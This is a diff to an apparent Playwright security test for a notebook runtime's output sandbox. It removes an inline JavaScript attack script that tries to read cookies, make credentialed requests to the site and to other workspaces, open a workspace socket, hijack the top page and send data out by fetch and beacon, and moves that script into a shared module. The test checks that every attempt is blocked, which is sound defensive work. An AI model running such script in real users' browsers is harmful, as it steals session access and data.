@@ -3,47 +3,16 @@
 from __future__ import annotations
 
 from collections.abc import AsyncIterator, Iterator
-from typing import Any
 
 import pytest
 from playwright.async_api import Browser, BrowserContext, expect
 
 from runtimes.jupyter import hosts
+from tests.runtimes.jupyter.attacks import ATTACKS, leaks
 from tests.runtimes.jupyter.desk import Chromium, Desk, output, run_cell
 
 pytestmark = [pytest.mark.browser, pytest.mark.sandbox]
 expect.set_options(timeout=60_000)
-
-# What a script in the frame tries. Each answers with what it got, or BLOCKED.
-ATTACKS = """async ([site, other]) => {
-  const got = {};
-  const attempt = async (name, act) => {
-    try { got[name] = String(await act()) } catch (error) { got[name] = "BLOCKED " + error.name }
-  };
-  const socket = (url) => new Promise((done) => {
-    const opened = new WebSocket(url);
-    opened.onopen = () => done("OPEN");
-    opened.onerror = () => done("BLOCKED");
-  });
-  await attempt("the page around it", () => parent.document.title);
-  await attempt("its own cookie", () => document.cookie === "" ? "BLOCKED" : document.cookie);
-  await attempt("the site, as the person", async () => (await fetch(site + "/", {credentials: "include"})).status);
-  await attempt("a blind post to the site", async () =>
-    (await fetch(site + "/", {credentials: "include", mode: "no-cors", method: "POST"})).type);
-  await attempt("another workspace", async () =>
-    (await fetch(other + "/api/contents", {credentials: "include"})).status);
-  await attempt("another workspace's socket", () => socket(other.replace("http", "ws") + "/api/events/subscribe"));
-  await attempt("the top page", () => { top.location = "http://example.invalid/"; return "navigated" });
-  await attempt("any server by fetch", async () => {
-    await fetch("http://127.0.0.1:1/", {mode: "no-cors"}); return "sent";
-  });
-  await attempt("a beacon", () => navigator.sendBeacon("http://127.0.0.1:1/", "x") ? "QUEUED" : "BLOCKED");
-  await attempt("a form to the site", () => {
-    const form = Object.assign(document.createElement("form"), {method: "post", action: site + "/", target: "_self"});
-    document.body.append(form); form.submit(); return "submitted";
-  });
-  return got;
-}"""
 
 
 @pytest.fixture(scope="module")
@@ -71,10 +40,8 @@ async def test_output_reaches_neither_site_nor_other_workspaces(desk: Desk, cont
     # The same person has the other workspace open, too: its cookie is in the browser.
     await desk.open(await context.new_page(), other)
     before = victim.url
-    got: dict[str, Any] = await frame.evaluate(ATTACKS, [desk.url, _origin(desk, other.slug)])
-    blocked_later = {"a form to the site", "a beacon"}  # refused by policy without telling the script
-    leaks = {name: value for name, value in got.items() if name not in blocked_later and "BLOCKED" not in value}
-    assert not leaks
+    got: dict[str, str] = await frame.evaluate(ATTACKS, [desk.url, _origin(desk, other.slug), "/"])
+    assert not leaks(got)
     assert victim.url == before
     assert frame.url.startswith(_origin(desk, mine.slug)), "the form went nowhere"
 
